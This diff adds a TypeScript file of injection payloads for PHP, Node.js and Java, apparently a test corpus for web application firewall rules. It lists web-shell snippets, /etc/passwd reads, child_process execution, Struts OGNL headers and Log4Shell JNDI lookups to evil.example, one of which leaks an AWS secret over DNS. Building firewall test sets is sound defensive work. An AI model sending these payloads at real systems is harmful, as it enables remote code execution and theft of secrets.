@@ -1,0 +1,77 @@
+import type { Family } from './family.ts';
+
+export const PHP: Family = {
+  name: 'PHP injection',
+  rules: '933',
+  places: ['query', 'json', 'form', 'cookie'],
+  spread: 2,
+  payloads: [
+    '<?php system($_GET["c"]); ?>',
+    '<?= phpinfo() ?>',
+    '<?php eval($_POST[1]);',
+    'system("id");',
+    'passthru("ls")',
+    'shell_exec("id")',
+    'assert($_REQUEST["x"])',
+    'base64_decode("c3lzdGVt")("id")',
+    'O:8:"stdClass":1:{s:1:"a";s:1:"b";}',
+    'a:1:{i:0;O:10:"Evil":0:{}}',
+    '$_SERVER["DOCUMENT_ROOT"]',
+    '$GLOBALS["x"]="y"',
+    'file_get_contents("/etc/passwd")',
+    'move_uploaded_file($_FILES["a"]["tmp_name"],"x.php")',
+    'call_user_func("system","id")',
+    'create_function("","system(1);")',
+    'php://input',
+    'auto_prepend_file=/tmp/x.php',
+    'allow_url_include=1',
+    'preg_replace("/.*/e","system(1)","")',
+  ],
+  crafted: [{ name: 'a setting of PHP in the query', search: '?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input' }],
+};
+
+export const NODE: Family = {
+  name: 'Node.js injection',
+  rules: '934',
+  places: ['query', 'json', 'form', 'cookie'],
+  spread: 2,
+  payloads: [
+    "require('child_process').exec('id')",
+    "process.mainModule.require('child_process').execSync('id')",
+    '_$$ND_FUNC$$_function(){return 1}()',
+    "global.process.mainModule.constructor._load('child_process').exec('id')",
+    "require('child_process').spawn('sh')",
+    "eval(require('fs').readFileSync('/etc/passwd'))",
+    "this.constructor.constructor('return process')().mainModule.require('child_process')",
+    '{"rce":"_$$ND_FUNC$$_function (){require(\'child_process\').exec(\'id\')}()"}',
+    "new Function('return process')().exit()",
+    "__proto__.constructor.constructor('return process')()",
+  ],
+};
+
+export const JAVA: Family = {
+  name: 'Java injection',
+  rules: '944',
+  places: ['query', 'json', 'header', 'form', 'cookie'],
+  spread: 2,
+  payloads: [
+    '${jndi:ldap://evil.example/a}',
+    '${jndi:rmi://evil.example/a}',
+    '${${lower:j}ndi:ldap://evil.example/a}',
+    '${jndi:dns://${env:AWS_SECRET}.evil.example}',
+    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
+    'java.lang.Runtime.getRuntime().exec("id")',
+    'new java.lang.ProcessBuilder({"id"}).start()',
+    'T(java.lang.Runtime).getRuntime().exec("id")',
+    'org.apache.commons.collections.functors.InvokerTransformer',
+    'com.opensymphony.xwork2.dispatcher.HttpServletRequest java.io.InputStream',
+    'class.module.classLoader.resources.context.parent.pipeline java.lang.Class.forName',
+    '#{request.getClass().forName("java.lang.Runtime").getMethod("exec")}',
+    'javax.script.ScriptEngineManager java.lang.System',
+    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA java.util.HashMap clonetransformer',
+    '(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec("id"))',
+  ],
+  crafted: [
+    { name: 'Struts in Content-Type', method: 'POST', body: 'x', headers: [['content-type', "%{(#nike='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}"]] },
+  ],
+};
